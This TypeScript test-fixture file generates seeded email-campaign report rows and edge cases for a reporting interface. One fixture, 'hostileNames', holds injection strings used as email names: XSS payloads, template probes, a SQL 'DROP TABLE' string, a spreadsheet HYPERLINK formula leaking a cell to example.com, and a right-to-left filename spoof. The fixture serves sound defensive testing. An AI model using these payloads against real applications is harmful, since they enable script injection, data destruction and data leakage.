import type { ReportResponseRow } from '../endpoint/contract.ts';

/** The current time in all scenarios: a Tuesday morning in Paris. */
export const scenarioNow = new Date('2026-11-24T09:00:00Z');

const day = 86_400_000;

/** Returns a random number generator (mulberry32) with a seed: the same numbers in every browser. */
export function seededNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const occasions = ['Spring launch', 'Customer webinar', 'Product update', 'Autumn news', 'Trade fair', 'Welcome'];
const places = ['Paris', 'Lyon', 'Berlin', 'Madrid', 'Oslo', 'Milan', 'Dublin', 'Montréal', 'Kraków', 'Zürich'];
const emailNames = ['Invite', 'Reminder', 'Last places', 'Thank you', 'Recording'];
const folders = ['EMEA/2026', 'EMEA/Webinars', 'Americas/2026', 'Always on'];

const pick = <Item>(items: readonly Item[], index: number) => items[index % items.length] as Item;

/** Returns realistic, consistent counts. */
function countsOf(random: () => number, sent: number, isFresh: boolean) {
  const share = (whole: number, min: number, max: number) => Math.round(whole * (min + random() * (max - min)));
  const hardBounced = share(sent, 0.002, 0.02);
  const softBounced = share(sent, 0.004, 0.02);
  const unknown = share(sent, 0, 0.03);
  const delivered = sent - hardBounced - softBounced - unknown;
  const opened = share(delivered, 0.15, 0.5);
  const clicked = share(opened, 0.05, 0.3);
  return {
    sent,
    delivered,
    hardBounced,
    softBounced,
    pending: isFresh ? unknown : 0,
    aborted: isFresh ? 0 : unknown,
    opened,
    clicked,
    unsubscribed: share(opened, 0, 0.01),
    humanOpened: share(opened, 0.6, 0.95),
    humanClicked: share(clicked, 0.5, 1),
  };
}

export interface RowsOptions {
  readonly seed?: number;
  /** The number of days before {@link scenarioNow} over which the first sends are spread. */
  readonly days?: number;
}

/** Returns realistic rows: campaigns of one to five emails, the latest first. Equal options give equal rows. */
export function realisticRows(count: number, { seed = 1, days = 27 }: RowsOptions = {}): ReportResponseRow[] {
  const random = seededNumbers(seed);
  const rows: ReportResponseRow[] = [];
  for (let campaign = 0; rows.length < count; campaign += 1) {
    const emails = Math.min(1 + Math.floor(random() * 5), count - rows.length);
    const place = pick(places, campaign);
    const round = Math.floor(campaign / (occasions.length * places.length));
    const campaignName = `${pick(occasions, campaign * 7 + round)} ${place}${round === 0 ? '' : ` ${round + 1}`}`;
    for (let email = 0; email < emails; email += 1) {
      const age = (rows.length / count) * days * day + random() * day;
      const firstSentAt = Math.floor((scenarioNow.getTime() - 4 * 3_600_000 - age) / 60_000) * 60_000;
      rows.push({
        campaignId: String(1001 + campaign),
        campaignName,
        campaignFolder: pick(folders, campaign),
        campaignArchived: random() < 0.08,
        emailId: String(50_001 + rows.length),
        emailName: pick(emailNames, email),
        firstSentAt: new Date(firstSentAt).toISOString(),
        lastActivityAt: new Date(
          Math.min(firstSentAt + random() * 9 * day, scenarioNow.getTime() - 3_600_000),
        ).toISOString(),
        ...countsOf(random, Math.round(200 * 300 ** random()), age < 2 * day),
      });
    }
  }
  return rows;
}

/** Returns realistic rows with some fields replaced, by index. */
export function rowsWith(fields: readonly Partial<ReportResponseRow>[]): ReportResponseRow[] {
  return realisticRows(fields.length).map((row, index) => ({ ...row, ...fields[index] }));
}

const noCounts = {
  delivered: 0,
  hardBounced: 0,
  softBounced: 0,
  pending: 0,
  aborted: 0,
  opened: 0,
  clicked: 0,
  unsubscribed: 0,
  humanOpened: 0,
  humanClicked: 0,
};

/** Rows with rates that have a denominator of 0. */
export const zeroDenominators = () =>
  rowsWith([
    { emailName: 'Nothing sent', sent: 0, ...noCounts },
    { emailName: 'Nothing delivered', sent: 40, ...noCounts, hardBounced: 40 },
    { emailName: 'Nothing opened', sent: 40, ...noCounts, delivered: 40 },
    { emailName: 'All pending', sent: 40, ...noCounts, pending: 40 },
  ]);

/** Rows with unknown values, which differ from 0. */
export const unknownValues = () =>
  rowsWith([
    {},
    { emailName: 'Opens unknown', opened: null, humanOpened: null },
    { emailName: 'All but sent unknown', firstSentAt: null, lastActivityAt: null, ...mapValues(noCounts, null) },
    { emailName: 'Bounces unknown', hardBounced: null, softBounced: null },
    { emailName: 'Folder unknown', campaignFolder: null, campaignArchived: null },
    {},
  ]);

function mapValues<Key extends string, Value>(fields: Record<Key, unknown>, value: Value): Record<Key, Value> {
  return Object.fromEntries(Object.keys(fields).map((key) => [key, value])) as Record<Key, Value>;
}

/** Rows with names that are dangerous if not treated as plain text. */
export const hostileNames = () =>
  rowsWith(
    [
      '<img src=x onerror="alert(1)">',
      '<script>alert(1)</script></td></tr></table>',
      '&lt;b&gt;not bold&lt;/b&gt; &amp;amp;',
      '${7 * 7} {{ 7 * 7 }} <%= 7 * 7 %>',
      'javascript:alert(1)',
      "Robert'); DROP TABLE emails; --",
      '=HYPERLINK("https://example.com/?"&A1,"Invite")',
      'Invoice \u202egnp.exe\u202c',
      '\u2067עברית\u2069 and العربية and English',
      'نشرة الربيع',
      '👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈 Space day 🇫🇷',
      'Z̸̢̛͙̈́a̷̡̛̾l̴̢̛͝g̵̡̛͌ơ̶̢͒ news',
      'A\tname\nof\u0000three\u0007lines',
      'Half a character \ud83d',
      '\u200b\u200b\u200b',
      ' ',
      '__proto__',
      'constructor',
    ].map((emailName, index) => ({
      emailName,
      campaignId: String(1 + (index >> 1)),
      campaignName: `Campaign of ${emailName}`,
    })),
  );

/** Rows with names of up to 10,000 characters, with and without line break opportunities. */
export const longNames = () =>
  rowsWith([
    { emailName: 'A name that somebody wrote as a sentence and then went on to explain at length. '.repeat(125) },
    { emailName: 'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(238).padEnd(10_000, '.') },
    {
      emailName: 'Short',
      campaignName: 'Programme of the European customer conferences, webinars and trade fairs of the year, '.repeat(8),
    },
    { emailName: 'emea_2026_q4_webinar_series_customers_and_prospects_invite_version_7_final_approved_FR_BE_CH' },
    { emailName: 'Short too' },
  ]);

/** Rows with emails and campaigns that share their names. */
export const duplicateNames = () =>
  rowsWith(
    Array.from({ length: 8 }, (_, index) => ({
      campaignId: String(1 + Math.floor(index / 3)),
      campaignName: 'Newsletter',
      emailName: index % 2 === 0 ? 'Invite' : 'Newsletter',
    })),
  );

/** Rows with counts up to the maximum that the contract allows. */
export const hugeFigures = () =>
  rowsWith(
    [1_234_567_890, 98_765_432_109_876, Number.MAX_SAFE_INTEGER].map((sent) => {
      const tenth = Math.floor(sent / 10);
      return {
        sent,
        ...noCounts,
        delivered: sent - tenth,
        hardBounced: tenth,
        opened: 5 * tenth,
        clicked: 2 * tenth,
        humanOpened: 4 * tenth,
        humanClicked: tenth,
        unsubscribed: tenth,
      };
    }),
  );

/** Rows with contradictory counts. */
export const contradictions = () =>
  rowsWith([
    {},
    { emailName: 'More clicked than opened', opened: 10, humanOpened: 10, clicked: 20, humanClicked: 15 },
    { emailName: 'Does not add up', aborted: 900_000 },
    {},
  ]);

const campaignTypes = ['batch', 'batch', 'trigger'];
const workspaces = ['Default', 'Default', 'Default', 'France'];

/** Rows with everything that is known from Marketo: programs, types, workspaces, privacy proxies, emails without open tracking. */
export const fromMarketo = () =>
  realisticRows(40).map((row, index) => {
    const campaign = Number(row.campaignId);
    const program = `${row.campaignName} 2026`;
    return {
      ...row,
      campaignName: pick(['01 Send', '02 Follow up'], campaign),
      campaignFolder: `/${row.campaignFolder ?? ''}/${program}`,
      campaignType: pick(campaignTypes, campaign),
      program,
      workspace: pick(workspaces, campaign),
      emailName: `${program}.${row.emailName}`,
      openTracked: index % 4 !== 1,
      privacyOpened: Math.floor((row.humanOpened ?? 0) * 0.3),
      mayHaveBegunEarlier: index > 36,
    };
  });

/** Rows of which every fourth has no open tracking: only people who clicked or unsubscribed count as opened. */
export const untrackedOpens = () =>
  realisticRows(24).map((row, index) => {
    if (index % 4 !== 1) return { ...row, openTracked: true };
    const { clicked = 0, humanClicked = 0, unsubscribed = 0 } = row;
    const openedBy = (clicks: number | null): number => (clicks ?? 0) + (unsubscribed ?? 0);
    return { ...row, openTracked: false, opened: openedBy(clicked), humanOpened: openedBy(humanClicked) };
  });

/** Rows of an instance that does not mark bots. */
export const withoutBotMarks = () =>
  realisticRows(50).map((row) => ({ ...row, humanOpened: null, humanClicked: null }));

/** Rows with only the required fields. */
export const requiredFieldsOnly = () =>
  realisticRows(12).map(({ campaignId, campaignName, emailId, emailName, sent }) => ({
    ...{ campaignId, campaignName, emailId, emailName, sent },
  }));
